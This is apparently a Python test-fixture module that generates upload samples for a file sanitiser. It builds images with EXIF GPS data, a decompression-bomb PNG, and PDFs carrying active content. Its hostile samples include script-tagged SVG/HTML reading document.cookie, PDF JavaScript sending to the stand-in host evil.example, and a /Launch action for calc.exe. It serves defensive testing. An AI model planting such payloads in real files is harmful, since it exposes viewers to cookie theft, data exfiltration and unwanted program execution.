"""Real files for upload tests, made on the fly with Pillow and pypdf."""

import io

from PIL import Image, ImageDraw


def jpeg(
    width=2000, height=1400, *, color=(180, 40, 30), exif_gps=False, comment=None, mode="RGB"
) -> bytes:
    image = Image.new(mode, (width, height), color if mode == "RGB" else (0, 120, 200, 10))
    ImageDraw.Draw(image).rectangle(
        (width // 4, height // 4, width // 2, height // 2),
        fill=(0, 0, 0) if mode == "RGB" else (0, 0, 0, 0),
    )
    out = io.BytesIO()
    options = {"quality": 80}
    if exif_gps:
        exif = Image.Exif()
        exif[0x010F] = "SecretCam"  # Make
        exif[0x013B] = "Nguyen Van A"  # Artist
        exif[0x8825] = {1: "N", 2: (21.0, 1.0, 42.0), 3: "E", 4: (105.0, 51.0, 12.0)}  # GPSInfo
        options["exif"] = exif
    if comment:
        options["comment"] = comment
    image.save(out, "JPEG", **options)
    return out.getvalue()


def png(width=1800, height=1200, mode="RGBA") -> bytes:
    image = Image.new(mode, (width, height), (20, 90, 160, 200) if mode == "RGBA" else 128)
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def webp(width=1800, height=1200) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), (30, 120, 60)).save(out, "WEBP", quality=70)
    return out.getvalue()


def animated_webp(width=1700, height=1000) -> bytes:
    frames = [Image.new("RGB", (width, height), c) for c in ((200, 0, 0), (0, 200, 0))]
    out = io.BytesIO()
    frames[0].save(out, "WEBP", save_all=True, append_images=frames[1:], duration=200)
    return out.getvalue()


def cmyk_jpeg(width=1800, height=1200) -> bytes:
    out = io.BytesIO()
    Image.new("CMYK", (width, height), (0, 80, 80, 0)).save(out, "JPEG", quality=80)
    return out.getvalue()


def bomb_png() -> bytes:
    """12,000 × 12,000 one-bit pixels (144 megapixels) in a few kilobytes."""
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000), 0).save(out, "PNG", optimize=True)
    return out.getvalue()


def pdf(pages=3, *, author=None) -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    if author:
        writer.add_metadata({"/Author": author, "/Title": "Portfolio"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 4000
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"


def pdf_with(
    *,
    pages=2,
    names_js=False,
    open_action_js=False,
    page_aa_js=False,
    launch=False,
    attachment=False,
    file_annotation=False,
    harmless_actions=False,
    author=None,
) -> bytes:
    """A PDF with text on each page and, on request, what a PDF can carry that acts.

    harmless_actions: a page-open action that goes to the first page, an open action that
    shows it, and a link to a website: accepted, but none of it belongs in a jury copy.
    """
    from pypdf import PdfWriter
    from pypdf.generic import (
        ArrayObject,
        DecodedStreamObject,
        DictionaryObject,
        FloatObject,
        NameObject,
        TextStringObject,
    )

    def name(value):
        return NameObject(value)

    def dictionary(**entries):
        return DictionaryObject({name(f"/{k}"): v for k, v in entries.items()})

    def javascript(code):
        return dictionary(S=name("/JavaScript"), JS=TextStringObject(code))

    def rect():
        return ArrayObject([FloatObject(v) for v in (72, 72, 300, 120)])

    writer = PdfWriter()
    font = writer._add_object(
        dictionary(Type=name("/Font"), Subtype=name("/Type1"), BaseFont=name("/Helvetica"))
    )
    for n in range(pages):
        page = writer.add_blank_page(width=595, height=842)
        content = DecodedStreamObject()
        content.set_data(f"BT /F1 24 Tf 72 720 Td (Cau tre, trang {n + 1}) Tj ET".encode())
        page[name("/Contents")] = writer._add_object(content)
        page[name("/Resources")] = dictionary(Font=dictionary(F1=font))
        annotations = ArrayObject()
        if page_aa_js:
            page[name("/AA")] = dictionary(O=javascript("app.launchURL('http://evil.example/')"))
        if launch:
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/Link"),
                    Rect=rect(),
                    A=dictionary(S=name("/Launch"), F=TextStringObject("calc.exe")),
                )
            )
        if file_annotation:
            data = DecodedStreamObject()
            data.set_data(b"the creator's notes")
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/FileAttachment"),
                    Rect=rect(),
                    FS=dictionary(
                        Type=name("/Filespec"),
                        F=TextStringObject("notes.txt"),
                        EF=dictionary(F=writer._add_object(data)),
                    ),
                )
            )
        if harmless_actions:
            page[name("/AA")] = dictionary(
                O=dictionary(
                    S=name("/GoTo"),
                    D=ArrayObject([writer.pages[0].indirect_reference, name("/Fit")]),
                )
            )
            annotations.append(
                dictionary(
                    Type=name("/Annot"),
                    Subtype=name("/Link"),
                    Rect=rect(),
                    A=dictionary(S=name("/URI"), URI=TextStringObject("https://studio.example/")),
                )
            )
        if annotations:
            page[name("/Annots")] = annotations
    root = writer._root_object
    if names_js:
        root[name("/Names")] = dictionary(
            JavaScript=dictionary(
                Names=ArrayObject([TextStringObject("init"), javascript("app.alert('hi')")])
            )
        )
    if open_action_js:
        root[name("/OpenAction")] = javascript("this.submitForm('http://evil.example/')")
    if harmless_actions:
        root[name("/OpenAction")] = ArrayObject([writer.pages[0].indirect_reference, name("/Fit")])
    if attachment:
        writer.add_attachment("source.txt", b"the creator's source file")
    if author:
        writer.add_metadata({"/Author": author, "/Creator": f"{author}'s InDesign"})
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_names(data: bytes) -> set[str]:
    """Every dictionary key and name in every object of a PDF, reachable or not."""
    from pypdf import PdfReader
    from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject

    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    stack = [reader.trailer]
    numbers = [(n, gen) for gen, entries in reader.xref.items() for n in entries]
    numbers += [(n, 0) for n in reader.xref_objStm]
    stack += [IndirectObject(n, gen, reader) for n, gen in numbers]
    seen = set()
    while stack:
        node = stack.pop()
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                continue
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, NameObject):
            found.add(str(node))
        elif isinstance(node, ArrayObject):
            stack.extend(node)
        elif isinstance(node, DictionaryObject):
            found.update(str(key) for key in node)
            stack.extend(node.values())
    return found
